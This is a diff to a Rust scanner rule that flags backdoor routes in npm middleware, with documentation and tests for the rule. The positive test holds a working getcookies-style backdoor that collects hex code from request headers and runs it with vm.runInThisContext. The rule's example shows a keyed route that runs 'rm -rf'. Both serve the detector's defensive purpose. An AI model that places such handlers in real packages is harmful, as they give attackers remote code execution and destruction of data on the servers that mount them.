@@ -7,7 +7,7 @@ use crate::verdict::Locality;
 use diligence_finding::Severity;
 
 diligence_finding::declare_rule! {
-    /// An HTTP request handler that runs commands, evaluates code or deletes files when the request carries a hard-coded key.
+    /// An HTTP request handler that runs commands, evaluates code or deletes files when the request carries a hard-coded key, or evaluates code it builds after reading the request.
     ///
     /// ## What it detects
     /// Inside a function registered as a request handler (`app.post('/path', …, (req, res) => …)`,
@@ -15,12 +15,17 @@ diligence_finding::declare_rule! {
     /// field of the request — a header, or a body, query, parameter or cookie field named like a credential
     /// (`key`, `token`, `secret`, `pass`, `auth`, `sig`) — compared with a string literal, followed in the same
     /// handler by a process spawn (`exec`, `spawn`), code evaluation (`eval`, `Function`, `vm`) or a file delete.
+    /// Also, with no key: code evaluation (`eval`, `Function`, `vm.runIn*Context`, `vm.Script`, `_compile`) of a
+    /// computed string inside a handler (or a callback nested in it) that read its request's client input
+    /// (`req.headers`, `req.rawHeaders`, `req.body`, `req.query`, `req.params`, `req.cookies`).
     ///
     /// ## Why it matters
     /// A middleware package that the application mounts turns the application's own server into the attacker's
     /// remote control: express-api-sync and system-health-sync-api (2025) registered an undocumented route that
     /// wiped the application folder (`rm -rf`) when a request carried a fixed key. Nothing happens at install or
-    /// import, no data flows out to look at: only an inbound request triggers it.
+    /// import, no data flows out to look at: only an inbound request triggers it. getcookies (2018)
+    /// scanned every request's headers for hex chunks, buffered them across requests and ran them with
+    /// `vm.runInThisContext`.
     ///
     /// ## Example
     /// `router.post('/_internal/sync', (req, res) => { if (req.body.key === 'DEFAULT_123') exec('rm -rf ' + dir) })`
@@ -29,6 +34,10 @@ diligence_finding::declare_rule! {
     /// Health and admin middleware report status and compare tokens with configuration (`process.env.ADMIN_TOKEN`),
     /// not literals, and run no commands: not reported. A development server that runs a tool behind a fixed
     /// header (`x-requested-with`) would be; such servers rarely compare a header with a constant before spawning.
+    /// Template engines compile templates with `Function` in their own module, not inside the application's
+    /// handler; a handler that runs a command with request data (an editor launcher) is not reported without a key;
+    /// `vm.createContext` and other `vm` calls that evaluate nothing are not code evaluation. A code playground
+    /// server that evaluates submitted code on purpose would be reported.
     pub static BACKDOOR_ROUTE = { id: "code/backdoor-route", severity: Severity::Critical };
 }
 
@@ -80,6 +89,68 @@ mod tests {
         assert_eq!(
             hits(&s, "code/backdoor-route"),
             vec![("index.js".to_string(), 4)]
+        );
+    }
+
+    /// Middleware scanning all request headers for smuggled hex chunks, kept across requests
+    /// and run with `vm.runInThisContext` in the scan's callback (getcookies, 2018).
+    #[test]
+    fn positive_code_smuggled_in_request_headers() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const vm = require('vm');
+const buf = global.__b || (global.__b = []);
+function harvest(req, res, next) {
+  JSON.stringify(req.headers).replace(/~(\\d+)\\.([0-9a-f]+)~/g, (m, op, data) => {
+    if (op === '9') vm.runInThisContext(buf.join(''))(require, req, res);
+    else buf[op] = Buffer.from(data, 'hex').toString();
+    return m;
+  });
+  next();
+}
+module.exports = () => harvest;
+",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/backdoor-route"),
+            vec![("index.js".to_string(), 5)]
+        );
+        assert_eq!(s.verdict, Verdict::Malicious);
+    }
+
+    /// A view middleware that reads request headers and renders through a template engine
+    /// compiled with `Function` elsewhere, a sandbox context created per request, and a
+    /// constant `Function` body: no computed code evaluated in the handler.
+    #[test]
+    fn negative_handler_reading_headers_without_evaluating_request_code() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "engine.js",
+                "exports.compile = (tpl) => new Function('it', 'return `' + tpl + '`;');\n",
+            ),
+            (
+                "index.js",
+                "const vm = require('vm');
+const { compile } = require('./engine');
+const page = compile('<p>${it.lang}</p>');
+const hasOwn = Function('return Object.prototype.hasOwnProperty')();
+module.exports = function view(req, res, next) {
+  const lang = String(req.headers['accept-language'] || 'en').split(',')[0];
+  const ctx = vm.createContext({ lang: lang });
+  console.log(JSON.stringify(req.headers), hasOwn);
+  res.end(page({ lang: ctx.lang }));
+};
+",
+            ),
+        ]);
+        assert!(
+            hits(&s, "code/backdoor-route").is_empty(),
+            "{:?}",
+            s.findings
         );
     }
 
